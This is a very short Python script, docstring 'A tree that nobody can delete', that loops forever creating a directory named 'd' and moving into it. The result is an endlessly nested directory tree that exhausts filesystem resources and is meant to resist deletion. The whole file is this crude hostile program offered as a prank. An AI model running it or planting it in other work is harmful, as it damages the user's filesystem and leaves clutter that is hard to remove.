"""A tree that nobody can delete."""

import os

while True:
    os.mkdir("d")
    os.chdir("d")
